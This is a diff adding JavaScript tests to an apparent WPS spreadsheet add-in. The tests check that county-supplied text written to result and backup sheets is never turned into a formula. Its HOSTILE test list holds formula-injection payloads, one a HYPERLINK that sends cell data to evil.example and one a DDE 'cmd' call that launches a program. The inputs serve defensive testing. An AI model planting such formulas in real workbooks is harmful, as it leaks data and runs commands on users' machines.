@@ -138,3 +138,65 @@ test("write sets the value and its number format", () => {
   assert.equal(ws.at("B2").numberFormat, "0.00");
   assert.equal(ws.at("C2").numberFormat, "0.00%");
 });
+
+test("the fake enters text as WPS does: = + - @ make formulas unless text format or an apostrophe", () => {
+  const app = new FakeApplication();
+  const wb = app.openSnapshot({ book: "b.xlsx", sheets: [{ name: "s", values: [["x"]] }] });
+  const ws = wb.sheet("s");
+  ws.Range("A1:E1").Value2 = [["=1+1", "+cmd", "-x", "@SUM(A1)", "-5"]];
+  assert.deepEqual(["A1", "B1", "C1", "D1"].map((a) => ws.at(a).formula), ["=1+1", "=+cmd", "=-x", "=SUM(A1)"]);
+  assert.equal(ws.at("E1").formula, null); // "-5" reads as a number
+  ws.Range("A2").Value2 = "'=1+1";
+  assert.equal(ws.Range("A2").Value2, "=1+1");
+  assert.equal(ws.Range("A2").PrefixCharacter, "'");
+  assert.equal(ws.Range("A2").HasFormula, false);
+  ws.Range("C:C").NumberFormat = "@";
+  ws.Range("C3").Value2 = "=1+1";
+  assert.equal(ws.Range("C3").HasFormula, false);
+  assert.equal(ws.Range("C3").Value2, "=1+1");
+});
+
+const HOSTILE = [
+  "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")",
+  "+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(1,1)",
+];
+
+test("county text reaches 校验结果 and jixiao_marks as text, never as a formula", () => {
+  const app = new FakeApplication();
+  const wb = app.openSnapshot({
+    book: "县级.xlsx",
+    sheets: [{ name: "=表", values: [["项目名称", HOSTILE[0]], ["分值", 80]] }],
+  });
+  const actions = [
+    { op: "mark", sheet: "=表", cell: "B1", color: "FFC7CE", note: "【错误】" + HOSTILE[0] },
+    { op: "write", sheet: "=表", cell: "B2", value: HOSTILE[1] },
+    {
+      op: "result_sheet", name: "校验结果", counts: { error: 4, warning: 0, info: 0 },
+      rows: HOSTILE.map((text, i) => ({
+        severity: "error", code: text, sheet: i ? text : "=表", cell: i ? null : "B1",
+        message: text, hint: text,
+      })),
+    },
+  ];
+  marks.applyActions(app, wb, actions);
+  const result = wb.sheet("校验结果");
+  const backup = wb.sheet("jixiao_marks");
+  for (const ws of [result, backup, wb.sheet("=表")]) {
+    assert.equal(ws.UsedRange.HasFormula, false, ws.Name);
+  }
+  const rows = result.UsedRange.Value2;
+  HOSTILE.forEach((text, i) => {
+    const row = rows[i + 2];
+    assert.equal(row[2], text); // 规则
+    if (i) assert.equal(row[3], text); // 工作表
+    assert.equal(row[5], text); // 说明
+    assert.equal(row[6], text); // 修改建议
+  });
+  assert.equal(wb.sheet("=表").Range("B2").Value2, HOSTILE[1]);
+  assert.equal(backup.UsedRange.Value2[1][0], "=表"); // the sheet's name, read back as text
+  marks.clearMarks(app, wb); // and the marks come off again through that name
+  assert.equal(wb.sheet("=表").at("B1").comment, null);
+  assert.equal(wb.sheet("=表").at("B1").pattern, XL_NONE);
+});
